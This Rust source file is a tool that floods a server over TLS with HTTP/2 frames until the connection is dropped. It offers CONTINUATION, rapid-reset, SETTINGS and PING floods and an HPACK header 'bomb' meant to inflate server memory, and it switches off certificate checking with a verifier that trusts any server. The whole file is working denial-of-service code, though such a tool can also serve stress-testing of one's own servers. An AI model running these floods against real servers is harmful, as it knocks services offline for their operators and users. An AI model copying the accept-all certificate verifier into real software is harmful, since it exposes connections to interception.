//! A client that floods a server with frames of HTTP/2 until it is thrown out.

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::time::{Duration, Instant};

use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::crypto::ring;
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use rustls::{ClientConfig, ClientConnection, DigitallySignedStruct, SignatureScheme, StreamOwned};

type Failure = Box<dyn std::error::Error + Send + Sync>;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const LARGEST_FRAME: usize = 16_384;
const LIMIT: Duration = Duration::from_secs(20);
/// Octets after which the server has put up with too much.
const ENOUGH: usize = 20_000_000;

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Floods `host` with one kind of frame, and says how many octets it took.
pub(crate) fn flood(kind: &str, host: &str) -> Result<(), Failure> {
    let mut config = ClientConfig::builder_with_provider(Arc::new(ring::default_provider()))
        .with_safe_default_protocol_versions()?
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(Anyone))
        .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let tcp = TcpStream::connect((host, 443))?;
    tcp.set_read_timeout(Some(Duration::from_millis(1)))?;
    tcp.set_write_timeout(Some(LIMIT))?;
    let tls = ClientConnection::new(Arc::new(config), host.to_owned().try_into()?)?;
    let mut stream = StreamOwned::new(tls, tcp.try_clone()?);
    stream.sock.set_read_timeout(Some(LIMIT))?;
    stream.write_all(PREFACE)?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[]))?;
    stream.flush()?;
    tcp.set_nonblocking(false)?;
    tcp.set_read_timeout(Some(Duration::from_millis(1)))?;
    let until = Instant::now() + LIMIT;
    let mut sent = 0;
    let mut stream_id = 1;
    while sent < ENOUGH && Instant::now() < until {
        let mut part = Vec::new();
        while part.len() < 64 * 1024 {
            part.extend(match kind {
                "continuation" if stream_id == 1 => frame(HEADERS, 0, 1, &request(host)),
                "continuation" => frame(CONTINUATION, 0, 1, &vec![0; LARGEST_FRAME]),
                "reset" => {
                    let open = frame(HEADERS, END_HEADERS | END_STREAM, stream_id, &request(host));
                    [open, frame(RST_STREAM, 0, stream_id, &8_u32.to_be_bytes())].concat()
                }
                "settings" => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
                "ping" => frame(PING, 0, 0, &[0; 8]),
                // A field that the table repeats (RFC 7541 section 4): small on the wire, large in memory.
                "bomb" => {
                    let mut head = request(host);
                    head.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
                    head.extend(vec![b'y'; 4000]);
                    head.extend(vec![0xbe; 8000]);
                    frame(HEADERS, END_HEADERS | END_STREAM, stream_id, &head)
                }
                other => return Err(format!("no flood of {other}").into()),
            });
            stream_id += 2;
        }
        if stream.write_all(&part).is_err() {
            break;
        }
        sent += part.len();
        if ended(&mut stream) {
            break;
        }
    }
    writeln!(io::stdout(), "{sent} octets")?;
    Ok(())
}

/// Reads what is there; whether the server has ended the connection.
fn ended(stream: &mut StreamOwned<ClientConnection, TcpStream>) -> bool {
    let mut scratch = [0; 65_536];
    loop {
        match stream.read(&mut scratch) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(error) => {
                return !matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut);
            }
        }
    }
}

/// RFC 9113 section 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// `GET /p/` (RFC 7541 section 6: indexed fields, and literals that are not).
fn request(host: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x87, 0x04, 3];
    block.extend(b"/p/");
    block.extend([0x01, host.len() as u8]);
    block.extend(host.as_bytes());
    block
}

/// A client that believes everybody.
#[derive(Debug)]
struct Anyone;

impl ServerCertVerifier for Anyone {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        ring::default_provider().signature_verification_algorithms.supported_schemes()
    }
}
